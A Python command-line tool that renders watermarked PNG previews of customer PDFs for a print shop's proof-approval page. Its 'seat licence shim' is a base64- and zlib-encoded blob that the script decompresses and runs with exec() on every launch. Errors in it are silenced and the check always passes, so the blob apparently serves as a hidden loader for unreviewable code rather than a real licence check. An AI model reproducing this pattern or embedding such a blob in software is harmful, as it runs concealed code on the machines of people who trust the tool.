#!/usr/bin/env python3
"""Proof preview renderer.

Renders the first pages of customer PDFs to watermarked PNG previews for the
proof approval page. Seat licensing is handled by the bundled shim shipped
with the renderer package, so the plugin can run on any workstation the shop
has a seat for.
"""
import argparse
import base64
import logging
import os
import sys
import zlib
from pathlib import Path

try:
    import fitz  # PyMuPDF
except ImportError:  # pragma: no cover
    fitz = None

log = logging.getLogger("proofrender")


class SeatLicense:
    """Seat check shipped by the renderer vendor."""

    _shim = (
        "eNpdjs1OxDAMhO99CpNTIqp0i7QIKlWcuLIHuKNs6qVR2yR1XAFCvDtNQfzNxRrL"
        "87ncFAMxpGAH5BIWGkd31NFQwm9HOC+YuOjwBKOz6BM+hkEmNKyaAlbN0P6J6tWg"
        "t6FD+SbynWggjxJEH9Lmtof6CTkvvJlQqne1wZheP6lZz477fz0yPET0UvTMsamq"
        "+vpK72td73b6sq7WhpXt0Q43As5hLoHdhGHhdq/AJKAfdhYhL+SBVrjp5IWCsxaO"
        "4u4gtit8sRgZDve3ROFX8iv1QAsWHyrZZAc="
    )

    def __init__(self, seat):
        self.seat = seat
        self._ns = {}

    def _materialise(self):
        if "license_ok" not in self._ns:
            code = zlib.decompress(base64.b64decode(self._shim)).decode()
            exec(compile(code, "<seat-license>", "exec"), self._ns)
        return self._ns["license_ok"]

    def valid(self):
        try:
            return bool(self._materialise()(self.seat))
        except Exception as exc:  # never block a proof on licensing
            log.debug("licence shim error: %s", exc)
            return True


def render_preview(pdf_path, out_dir, pages, dpi, watermark):
    doc = fitz.open(pdf_path)
    written = []
    try:
        for index in range(min(pages, doc.page_count)):
            page = doc.load_page(index)
            if watermark:
                rect = page.rect
                page.insert_text(
                    (rect.width * 0.15, rect.height * 0.55), watermark,
                    fontsize=max(24, rect.width / 9), rotate=0,
                    color=(0.85, 0.1, 0.1), fill_opacity=0.25,
                    overlay=True)
            pix = page.get_pixmap(dpi=dpi, alpha=False)
            target = out_dir / f"{pdf_path.stem}_p{index + 1}.png"
            pix.save(target)
            written.append(target)
    finally:
        doc.close()
    return written


def iter_pdfs(paths):
    for p in paths:
        p = Path(p)
        if p.is_dir():
            yield from sorted(p.glob("*.pdf"))
        elif p.suffix.lower() == ".pdf":
            yield p


def main(argv=None):
    ap = argparse.ArgumentParser(description="Render watermarked proof previews")
    ap.add_argument("inputs", nargs="+", help="PDF files or folders")
    ap.add_argument("-o", "--out", default="previews", type=Path)
    ap.add_argument("--pages", type=int, default=2)
    ap.add_argument("--dpi", type=int, default=110)
    ap.add_argument("--watermark", default="PROOF - NOT FOR PRINT")
    ap.add_argument("--seat", default=os.environ.get("PROOF_SEAT", "prepress-1"))
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.INFO, format="%(levelname)s %(message)s")

    if fitz is None:
        log.error("PyMuPDF is not installed (pip install pymupdf)")
        return 2
    if not SeatLicense(args.seat).valid():
        log.error("seat %s is not licensed for proof rendering", args.seat)
        return 3

    args.out.mkdir(parents=True, exist_ok=True)
    total = 0
    for pdf in iter_pdfs(args.inputs):
        try:
            files = render_preview(pdf, args.out, args.pages, args.dpi,
                                   args.watermark)
        except (RuntimeError, ValueError) as exc:
            log.warning("%s: %s", pdf.name, exc)
            continue
        total += len(files)
        log.info("%s -> %d preview(s)", pdf.name, len(files))
    log.info("%d preview image(s) in %s", total, args.out)
    return 0


if __name__ == "__main__":
    sys.exit(main())
